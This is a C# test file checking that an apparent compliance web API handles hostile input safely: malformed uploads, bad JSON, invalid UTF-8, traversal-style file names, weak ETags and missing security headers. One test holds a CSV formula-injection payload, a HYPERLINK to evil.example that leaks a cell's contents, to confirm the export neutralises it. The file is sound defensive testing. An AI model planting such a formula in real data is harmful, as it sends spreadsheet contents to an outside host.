using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Attest.Core.Common;
using Attest.Core.Data;
using Attest.Core.Features.Identity;
using Attest.Web.Tests.Support;
using Microsoft.EntityFrameworkCore;

namespace Attest.Web.Tests.Hostile;

/// <summary>
/// Issue 12: hostile input never gets a 500, a hang or a partial write — each test is named after a defect
/// the probe found. One demo app for the class; every request is made with an admin API key.
/// </summary>
public sealed class HostileInputTests(DemoAppFixture app) : IClassFixture<DemoAppFixture>, IAsyncLifetime
{
    private HttpClient _client = null!;
    private CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        var key = await app.Factory.WithServiceAsync<CreateApiKey, CreatedApiKey>(async c =>
            (await c.ExecuteAsync(new ApiKeyInput { Name = "hostile-" + Guid.NewGuid().ToString("N")[..8], Roles = ["admin"] }, CallerIdentity.Attest, Ct)).Value!);
        _client = app.Factory.CreateClient(new() { AllowAutoRedirect = false });
        _client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", key.Secret);
    }

    public ValueTask DisposeAsync()
    {
        _client.Dispose();
        return ValueTask.CompletedTask;
    }

    private Task<long> LedgerSizeAsync() => app.Factory.WithServiceAsync<AttestDbContext, long>(db => db.Ledger.LongCountAsync(Ct));

    private async Task<HttpResponseMessage> SendAsync(HttpMethod method, string url, HttpContent? content, Action<HttpRequestMessage>? configure = null)
    {
        using var request = new HttpRequestMessage(method, url) { Content = content };
        configure?.Invoke(request);
        return await _client.SendAsync(request, Ct);
    }

    private static ByteArrayContent Raw(byte[] bytes, string mediaType)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = MediaTypeHeaderValue.Parse(mediaType);
        return content;
    }

    private static async Task<string> ProblemAsync(HttpResponseMessage response, HttpStatusCode expected)
    {
        var text = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        response.StatusCode.ShouldBe(expected, text);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json", text);
        return text;
    }

    [Theory]
    [InlineData("multipart/form-data", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nhello")]
    [InlineData("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nhello")]
    [InlineData("multipart/form-data; boundary=x", "\u0001\u00ff random bytes \u0000 that are no multipart message at all")]
    public async Task Malformed_multipart_evidence_upload_is_400_and_writes_nothing(string contentType, string body)
    {
        var before = await LedgerSizeAsync();

        var response = await SendAsync(HttpMethod.Post, "/api/v1/systems/credit-scoring/evidence", Raw(Encoding.Latin1.GetBytes(body), contentType));

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("multipart");
        (await LedgerSizeAsync()).ShouldBe(before);
    }

    [Theory]
    [InlineData("1e400")]
    [InlineData("-1e400")]
    [InlineData("1.79e309")]
    public async Task A_model_config_number_outside_the_double_range_is_400_naming_the_field(string number)
    {
        var before = await LedgerSizeAsync();

        var response = await _client.PostJsonAsync("/api/v1/systems/credit-scoring/models",
            $$$"""{"name":"huge","version":"1.0.0","kind":"predictive","provider":"in_house","config":{"learning_rate":{{{number}}}}}""");

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("\"config.learning_rate\"");
        problem.ShouldContain("outside the range of a double");
        (await LedgerSizeAsync()).ShouldBe(before);
    }

    [Fact]
    public async Task A_differently_cased_key_is_an_unknown_field_not_a_silent_override()
    {
        var response = await _client.PostJsonAsync("/api/v1/systems", Json.SystemJson("case-probe", ", \"Name\": \"Overridden\""));

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("Unknown field 'Name': field names are case-sensitive");
    }

    [Fact]
    public async Task A_duplicated_key_is_400()
    {
        var response = await _client.PostJsonAsync("/api/v1/systems", Json.SystemJson("dup-probe", ", \"name\": \"Second name\""));

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("Field 'name' appears twice");
    }

    [Fact]
    public async Task A_weak_ETag_never_matches_If_Match()
    {
        (await _client.PostJsonAsync("/api/v1/systems", Json.SystemJson("etag-probe"))).StatusCode.ShouldBe(HttpStatusCode.Created);

        var response = await SendAsync(HttpMethod.Put, "/api/v1/systems/etag-probe", Json.Body(Json.SystemJson("etag-probe")),
            r => r.Headers.TryAddWithoutValidation("If-Match", "W/\"1\""));

        var problem = await ProblemAsync(response, HttpStatusCode.PreconditionFailed);
        problem.ShouldContain("strong comparison");
    }

    [Theory]
    [InlineData("not-an-email")]
    [InlineData("dana@")]
    [InlineData("Dana <dana@example.com>")]
    [InlineData("dana @example.com")]
    public async Task A_malformed_email_is_refused(string email)
    {
        var response = await _client.PostJsonAsync("/api/v1/users", $$"""{"user_name":"mail-probe","display_name":"Mail Probe","email":"{{email}}","roles":["auditor"],"password":"correct horse battery staple"}""");

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("\"email\"");
    }

    [Fact]
    public async Task A_100000_character_intake_name_is_refused()
    {
        var answers = $$"""{"format":"attest.intake/v1","name":"{{new string('x', 100_000)}}","operator_role":"provider"}""";

        var response = await SendAsync(HttpMethod.Put, "/api/v1/systems/credit-scoring/intake", Json.Body(answers));

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("must be at most 200 characters");
    }

    [Theory]
    [InlineData("")]
    [InlineData("null")]
    public async Task An_empty_or_null_body_says_a_request_body_is_required(string body)
    {
        var response = await SendAsync(HttpMethod.Post, "/api/v1/systems", new StringContent(body, Encoding.UTF8, "application/json"));

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("A request body is required");
        problem.ShouldNotContain("Implicit body");
    }

    [Fact]
    public async Task Invalid_UTF8_is_named_as_such()
    {
        byte[] body = [.. "{\"slug\":\"utf8-probe\",\"name\":\""u8.ToArray(), 0xff, 0xfe, .. "\",\"purpose\":\"p\",\"business_owner\":\"a\",\"technical_owner\":\"b\",\"business_unit\":\"c\"}"u8.ToArray()];

        var response = await SendAsync(HttpMethod.Post, "/api/v1/systems", Raw(body, "application/json"));

        var problem = await ProblemAsync(response, HttpStatusCode.BadRequest);
        problem.ShouldContain("Field 'name' is not valid UTF-8 text");

        var intake = await SendAsync(HttpMethod.Put, "/api/v1/systems/credit-scoring/intake", Raw([.. "{\"name\":\""u8.ToArray(), 0xc3, .. "\"}"u8.ToArray()], "application/json"));
        (await ProblemAsync(intake, HttpStatusCode.BadRequest)).ShouldContain("not valid UTF-8");
    }

    [Theory]
    [InlineData("dir/")]
    [InlineData("..")]
    [InlineData("\u0001\u0002")]
    public async Task An_evidence_file_name_without_a_usable_name_gets_a_fallback_and_is_served_as_an_attachment(string name)
    {
        using var form = new MultipartFormDataContent("probe-boundary");
        var file = new ByteArrayContent("fairness results"u8.ToArray());
        file.Headers.ContentType = new MediaTypeHeaderValue("text/plain");
        form.Add(file, "file", name);
        form.Add(new StringContent("fairness_report"), "type");

        var created = await SendAsync(HttpMethod.Post, "/api/v1/systems/credit-scoring/evidence", form);

        var json = await created.Content.ReadAsStringAsync(Ct);
        created.StatusCode.ShouldBe(HttpStatusCode.Created, json);
        var evidence = System.Text.Json.Nodes.JsonNode.Parse(json)!;
        var fileName = evidence["file_name"]!.GetValue<string>();
        fileName.ShouldStartWith("evidence-");
        fileName.ShouldEndWith(".txt");
        var content = await _client.GetAsync($"/api/v1/evidence/{evidence["id"]!.GetValue<string>()}/content", Ct);
        content.StatusCode.ShouldBe(HttpStatusCode.OK);
        content.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        content.Content.Headers.ContentDisposition.FileName!.Trim('"').ShouldBe(fileName);
    }

    [Fact]
    public async Task A_system_named_like_a_formula_is_neutralised_in_the_compliance_CSV()
    {
        const string formula = "=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"click\\\")";
        var created = await _client.PostJsonAsync("/api/v1/systems", Json.SystemJson("formula-probe").Replace("\"Résumé screening assistant\"", $"\"{formula}\"", StringComparison.Ordinal));
        created.StatusCode.ShouldBe(HttpStatusCode.Created, await created.Content.ReadAsStringAsync(Ct));
        var intake = await SendAsync(HttpMethod.Put, "/api/v1/systems/formula-probe/intake",
            Json.Body(Json.ResumeScreenerIntake));
        intake.EnsureSuccessStatusCode();

        var csv = await _client.GetStringAsync("/api/v1/compliance-matrix?format=csv", Ct);

        var line = csv.Split("\r\n").First(l => l.StartsWith("formula-probe,", StringComparison.Ordinal));
        line.ShouldContain(",\"'=HYPERLINK(");
        line.ShouldNotContain(",=HYPERLINK(");
    }

    [Fact]
    public async Task Every_response_carries_the_security_headers()
    {
        foreach (var path in new[] { "/api/v1/systems", "/signin", "/health" })
        {
            using var response = await _client.GetAsync(path, Ct);
            response.Headers.GetValues("X-Content-Type-Options").ShouldBe(["nosniff"]);
            response.Headers.GetValues("Referrer-Policy").ShouldBe(["no-referrer"]);
            response.Headers.GetValues("X-Frame-Options").ShouldBe(["DENY"]);
            var csp = response.Headers.GetValues("Content-Security-Policy").Single();
            csp.ShouldContain("frame-ancestors 'none'");
            csp.ShouldNotContain("script-src 'unsafe-inline'");
        }
        using var page = await _client.GetAsync("/signin", Ct);
        page.Headers.GetValues("Content-Security-Policy").Single().ShouldContain("script-src 'self'");
        (await page.Content.ReadAsStringAsync(Ct)).ShouldNotContain("<script");
    }
}
